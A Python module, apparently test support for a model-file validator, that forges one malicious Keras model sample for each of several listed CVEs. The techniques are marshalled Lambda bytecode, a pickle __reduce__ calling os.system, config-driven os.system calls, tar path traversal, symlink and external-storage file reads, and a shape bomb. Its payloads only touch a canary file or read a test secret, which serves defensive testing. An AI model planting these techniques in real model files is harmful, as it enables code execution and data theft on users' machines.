"""A table of the attacks: what each did to Keras, and a function that makes a sample of it.

Every sample has right sizes and a valid seal, so that nothing but its content can be refused.
"""

import base64
import io
import json
import marshal
import os
import pickle
import tarfile
from collections.abc import Callable
from pathlib import Path
from typing import Any, NamedTuple

import h5py
import numpy as np


class Target(NamedTuple):
    """What an attack is about: a file that it would make, and one that it would read."""

    canary: Path
    secret: Path


Sample = Callable[[Any, Path, Target], None]


def code(target: Target) -> str:
    """Bytecode that makes the canary, as Keras stores a lambda."""
    text = f"lambda x: __import__('pathlib').Path({str(target.canary)!r}).touch()"
    function = eval(text)
    return base64.b64encode(marshal.dumps(function.__code__)).decode()


class Pickled:
    """An object whose unpickling makes the canary."""

    def __init__(self, canary: Path) -> None:
        self._canary = canary

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (f"touch '{self._canary}'",)


#: What the preset of the trained model is written out: its tensors are theirs.
LAYERS: list[dict[str, Any]] = [
    {"type": "dense", "units": 8, "use_bias": False},
    {"type": "batch_normalization"},
    {"type": "activation", "activation": "relu"},
    {"type": "dropout", "rate": 0.2},
    {"type": "dense", "units": 3, "activation": "softmax"},
]


def layer(make: Callable[[Target], dict[str, Any]]) -> Sample:
    """One layer more, without tensors: nothing else is wrong with the model."""

    def forge(forger: Any, path: Path, target: Target) -> None:
        model = {"type": "layers", "layers": [*LAYERS, make(target)]}
        forger.change(path, "experiment", model=model)

    return forge


def keys(make: Callable[[Target], dict[str, Any]]) -> Sample:
    """The last layer, with more keys: nothing else is wrong with the model."""

    def forge(forger: Any, path: Path, target: Target) -> None:
        model = {"type": "layers", "layers": [*LAYERS[:-1], LAYERS[-1] | make(target)]}
        forger.change(path, "experiment", model=model)

    return forge


def unsafe_mode(forger: Any, path: Path, target: Target) -> None:
    call = {"module": "keras.config", "class_name": "function"}
    call |= {"config": "enable_unsafe_deserialization", "registered_name": "function"}
    model = {"type": "layers", "layers": LAYERS, "build_config": call}
    forger.change(path, "experiment", model=model, safe_mode=False)


def legacy_file(forger: Any, path: Path, target: Target) -> None:
    content = io.BytesIO()
    with h5py.File(content, "w") as file:
        config = {"class_name": "Lambda", "config": {"function": [code(target), None, None]}}
        file.attrs["model_config"] = json.dumps({"class_name": "Sequential", "config": [config]})
        file["layers.0.kernel"] = np.zeros((4, 8), np.float32)
    forger.replace(path, "model.safetensors", content.getvalue())


def external_storage(forger: Any, path: Path, target: Target) -> None:
    """The secret's bytes in the place of a tensor's."""
    tensors = (path / "model.safetensors").read_bytes()
    length = int.from_bytes(tensors[:8], "little")
    header = json.loads(tensors[8 : 8 + length])
    header["layers.0.kernel"]["external"] = [[str(target.secret), 0, 128]]
    text = json.dumps(header).encode()
    content = len(text).to_bytes(8, "little") + text + tensors[8 + length :]
    forger.replace(path, "model.safetensors", content)


def linked_storage(forger: Any, path: Path, target: Target) -> None:
    target.secret.write_bytes((path / "model.safetensors").read_bytes())
    (path / "model.safetensors").unlink()
    (path / "model.safetensors").symlink_to(target.secret)


def shape_bomb(forger: Any, path: Path, target: Target) -> None:
    """A small file, a header and a manifest that agree on exabytes."""
    shape = [2**20, 2**20, 2**20]
    offsets = [0, 4 * 2**60]
    entry = {"dtype": "F32", "shape": shape, "data_offsets": offsets}
    text = json.dumps({"layers.0.kernel": entry}).encode()
    record = {"dtype": "float32", "shape": shape, "sha256": "00" * 32}
    content = len(text).to_bytes(8, "little") + text + bytes(64)
    forger.replace(path, "model.safetensors", content, tensors={"layers.0.kernel": record})


def archive(forger: Any, path: Path, target: Target) -> None:
    content = io.BytesIO()
    with tarfile.open(fileobj=content, mode="w") as tar:
        member = tarfile.TarInfo(os.path.relpath(target.canary, path))
        tar.addfile(member, io.BytesIO())
    forger.replace(path, "model.safetensors", content.getvalue())


def file_elsewhere(forger: Any, path: Path, target: Target) -> None:
    files = forger.manifest(path)["files"]
    files[os.path.relpath(target.canary, path)] = files["model.safetensors"]
    forger.change(path, "files", **files)


def tensor_elsewhere(forger: Any, path: Path, target: Target) -> None:
    name = os.path.relpath(target.canary, path)
    text = json.dumps({name: {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}).encode()
    record = {"dtype": "float32", "shape": [1], "sha256": "00" * 32}
    content = len(text).to_bytes(8, "little") + text + bytes(4)
    forger.replace(path, "model.safetensors", content, tensors={name: record})


def vocabulary(forger: Any, path: Path, target: Target) -> None:
    """A path where the class names stand."""
    facts = json.loads((path / "preprocessing.json").read_text())
    facts["class_names"] = str(target.secret)
    forger.replace(path, "preprocessing.json", json.dumps(facts).encode())


#: CVE -> what it did to Keras, and the sample.
ATTACKS: dict[str, tuple[str, Sample]] = {
    "CVE-2024-3660": (
        "a Lambda layer's marshalled bytecode ran when the model was loaded",
        layer(lambda target: {"type": "lambda", "function": [code(target), None, None]}),
    ),
    "CVE-2025-1550": (
        "config.json named any module and function, which were imported and called",
        keys(
            lambda target: {
                "module": "os",
                "class_name": "function",
                "config": "system",
                "inbound_nodes": [{"args": [f"touch {target.canary}"], "kwargs": {}}],
            }
        ),
    ),
    "CVE-2025-8747": (
        "functions of Keras itself, get_file among them, were called in safe mode",
        layer(
            lambda target: {
                "type": "function",
                "module": "keras.utils",
                "config": "get_file",
                "args": [str(target.canary), f"file://{target.secret}"],
            }
        ),
    ),
    "CVE-2025-9905": (
        "the legacy .h5 format ignored safe_mode, and its Lambda layers ran",
        legacy_file,
    ),
    "CVE-2025-9906": (
        "config.json called enable_unsafe_deserialization, then a Lambda layer ran",
        unsafe_mode,
    ),
    "CVE-2025-49655": (
        "TorchModuleWrapper unpickled the module that its config held",
        layer(
            lambda target: {
                "type": "torch_module_wrapper",
                "module": base64.b64encode(pickle.dumps(Pickled(target.canary))).decode(),
            }
        ),
    ),
    "CVE-2025-12058, a layer": (
        "StringLookup read whatever file or address its vocabulary named",
        layer(lambda target: {"type": "string_lookup", "vocabulary": str(target.secret)}),
    ),
    "CVE-2025-12058, the preprocessing": (
        "StringLookup read whatever file or address its vocabulary named",
        vocabulary,
    ),
    "CVE-2025-12060": (
        "get_file unpacked tar archives whose members led out of the directory",
        archive,
    ),
    "CVE-2025-12638": (
        "the same through links and long names that Python's own filter let pass",
        file_elsewhere,
    ),
    "CVE-2026-0897": (
        "an HDF5 dataset that declared petabytes was allocated before it was read",
        shape_bomb,
    ),
    "CVE-2026-1669, an entry": (
        "an HDF5 dataset kept its bytes in any other file: external storage",
        external_storage,
    ),
    "CVE-2026-1669, a link": (
        "an HDF5 dataset kept its bytes in any other file: external storage",
        linked_storage,
    ),
    "CVE-2026-1462": (
        "TFSMLayer loaded the SavedModel at any path, whose graph then ran",
        layer(
            lambda target: {
                "type": "tfsm_layer",
                "filepath": str(target.secret),
                "call_endpoint": "serving_default",
            }
        ),
    ),
    "CVE-2026-12479": (
        "a layer's name with ../ in it became a path that was written to",
        tensor_elsewhere,
    ),
    "CVE-2026-12481": (
        "safe_mode None, as in clone_model and from_config, let Lambda bytecode through",
        layer(
            lambda target: {
                "type": "lambda",
                "safe_mode": None,
                "config": {"function": {"class_name": "__lambda__", "config": code(target)}},
            }
        ),
    ),
}
